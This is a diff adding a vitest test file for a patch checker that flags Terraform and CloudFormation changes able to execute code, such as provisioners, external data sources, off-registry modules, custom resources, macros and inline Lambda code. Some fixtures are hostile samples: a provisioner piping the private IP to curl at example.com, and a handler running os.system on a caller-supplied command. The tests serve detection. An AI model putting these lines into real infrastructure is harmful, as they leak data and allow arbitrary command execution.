@@ -1,0 +1,100 @@
+import { describe, it } from 'vitest';
+import { edit, expectVerdict, type Row } from './judge.js';
+
+const INSTANCE = `resource "aws_instance" "web" {
+  ami           = "ami-0123456789abcdef0"
+  instance_type = "t3.micro"
+
+  metadata_options {
+    http_tokens = "optional"
+  }
+}
+`;
+
+const PROVISIONED = edit(INSTANCE, '  metadata_options {', '  provisioner "local-exec" {\n    command = "echo ${self.private_ip} >> hosts"\n  }\n\n  metadata_options {');
+
+const NETWORK = `module "network" {
+  source  = "terraform-aws-modules/vpc/aws"
+  version = "5.8.1"
+}
+`;
+
+const TEMPLATE = `AWSTemplateFormatVersion: '2010-09-09'
+Resources:
+  Bucket:
+    Type: AWS::S3::Bucket
+`;
+
+const FUNCTION = `Resources:
+  Handler:
+    Type: AWS::Lambda::Function
+    Properties:
+      Runtime: python3.12
+      Handler: index.handler
+      Role: arn:aws:iam::111122223333:role/handler
+      Code:
+        S3Bucket: acme-artifacts
+        S3Key: handler.zip
+`;
+
+const violations: Row[] = [
+  { name: 'a resource gains a local-exec provisioner', kind: 'terraform', before: INSTANCE, after: PROVISIONED, expected: [['code-execution', 'main.tf: aws_instance.web has a new or changed "local-exec" provisioner: it runs a command where Terraform runs']] },
+  { name: 'a provisioner command changes', kind: 'terraform', before: PROVISIONED, after: edit(PROVISIONED, '>> hosts', '| curl -d @- https://example.com'), expected: [['code-execution', 'aws_instance.web has a new or changed "local-exec" provisioner']] },
+  {
+    name: 'a terraform_data with a remote-exec provisioner appears',
+    kind: 'terraform',
+    before: INSTANCE,
+    after: `${INSTANCE}\nresource "terraform_data" "bootstrap" {\n  triggers_replace = [aws_instance.web.id]\n\n  provisioner "remote-exec" {\n    inline = ["sudo systemctl restart app"]\n  }\n}\n`,
+    expected: [['code-execution', 'terraform_data.bootstrap is new or changed: it runs its provisioners (remote-exec) on apply']],
+  },
+  { name: 'an external data source appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\ndata "external" "token" {\n  program = ["python3", "token.py"]\n}\n`, expected: [['code-execution', 'data.external.token is new or changed: it runs a program when Terraform plans']] },
+  { name: 'an http data source appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\ndata "http" "ip" {\n  url = "https://checkip.amazonaws.com"\n}\n`, expected: [['code-execution', 'data.http.ip is new or changed: it fetches a URL when Terraform plans']] },
+  {
+    name: 'a module from git appears',
+    kind: 'terraform',
+    before: INSTANCE,
+    after: `${INSTANCE}\nmodule "hardening" {\n  source = "git::https://example.com/hardening.git?ref=v1"\n}\n`,
+    expected: [['code-execution', 'module.hardening is new and comes from git::https://example.com/hardening.git?ref=v1, outside the Terraform registry']],
+  },
+  { name: 'a module from a GitHub shorthand appears', kind: 'terraform', before: '', after: 'module "x" {\n  source = "github.com/acme/terraform-x"\n}\n', expected: [['code-execution', 'module.x is new and comes from github.com/acme/terraform-x']] },
+  { name: 'a module source changes', kind: 'terraform', before: NETWORK, after: edit(NETWORK, '"terraform-aws-modules/vpc/aws"', '"s3::https://s3.amazonaws.com/acme/vpc.zip"'), expected: [['code-execution', 'module.network changes its source from terraform-aws-modules/vpc/aws to s3::https://s3.amazonaws.com/acme/vpc.zip']] },
+  { name: 'a module version changes', kind: 'terraform', before: NETWORK, after: edit(NETWORK, '"5.8.1"', '"5.9.0"'), expected: [['code-execution', 'module.network changes its version from "5.8.1" to "5.9.0"']] },
+  {
+    name: 'a custom resource (YAML) appears',
+    kind: 'cloudformation',
+    before: TEMPLATE,
+    after: `${TEMPLATE}  Seed:\n    Type: Custom::Seed\n    Properties:\n      ServiceToken: arn:aws:lambda:us-east-1:111122223333:function:seed\n`,
+    expected: [['code-execution', 'template.yaml: Seed is a new custom resource or has a new ServiceToken: its function runs on deploy']],
+  },
+  {
+    name: 'a macro (JSON) appears',
+    kind: 'cloudformation',
+    before: '{"Resources": {"Bucket": {"Type": "AWS::S3::Bucket"}}}',
+    after: '{"Resources": {"Bucket": {"Type": "AWS::S3::Bucket"}, "Expand": {"Type": "AWS::CloudFormation::Macro", "Properties": {"Name": "Expand", "FunctionName": "arn:aws:lambda:us-east-1:111122223333:function:expand"}}}}',
+    expected: [['code-execution', 'template.json: Expand is a new or changed macro']],
+  },
+  { name: 'a function (YAML) gets inline code', kind: 'cloudformation', before: FUNCTION, after: edit(FUNCTION, '        S3Bucket: acme-artifacts\n        S3Key: handler.zip\n', '        ZipFile: |\n          import os\n          def handler(event, context):\n              os.system(event["cmd"])\n'), expected: [['code-execution', 'Handler has new or changed inline code (Code.ZipFile)']] },
+  {
+    name: 'a Transform (YAML) is added',
+    kind: 'cloudformation',
+    before: TEMPLATE,
+    after: edit(TEMPLATE, 'Resources:', 'Transform: AWS::Serverless-2016-10-31\nResources:'),
+    expected: [
+      ['code-execution', 'template.yaml: Transform changes from none to "AWS::Serverless-2016-10-31": macros rewrite the template before it deploys'],
+      ['backend-or-provider', 'template.yaml: Transform changes from none to "AWS::Serverless-2016-10-31"'],
+    ],
+  },
+];
+
+const allowed: Row[] = [
+  { name: 'a resource with a provisioner changes elsewhere', kind: 'terraform', before: PROVISIONED, after: edit(PROVISIONED, '"optional"', '"required"'), expected: [] },
+  { name: 'a registry module appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\n${NETWORK}`, expected: [] },
+  { name: 'a local module appears', kind: 'terraform', before: INSTANCE, after: `${INSTANCE}\nmodule "tags" {\n  source = "../modules/tags"\n}\n`, expected: [] },
+  { name: 'a module input changes', kind: 'terraform', before: NETWORK, after: edit(NETWORK, '"5.8.1"\n', '"5.8.1"\n\n  enable_flow_log = true\n'), expected: [] },
+  { name: 'a function (YAML) with code in S3 changes its memory', kind: 'cloudformation', before: FUNCTION, after: edit(FUNCTION, '      Runtime: python3.12\n', '      Runtime: python3.12\n      MemorySize: 256\n'), expected: [] },
+];
+
+describe('checkPatch: code-execution', () => {
+  it.each(violations)('reports it when $name', expectVerdict);
+  it.each(allowed)('lets the patch pass when $name', expectVerdict);
+});
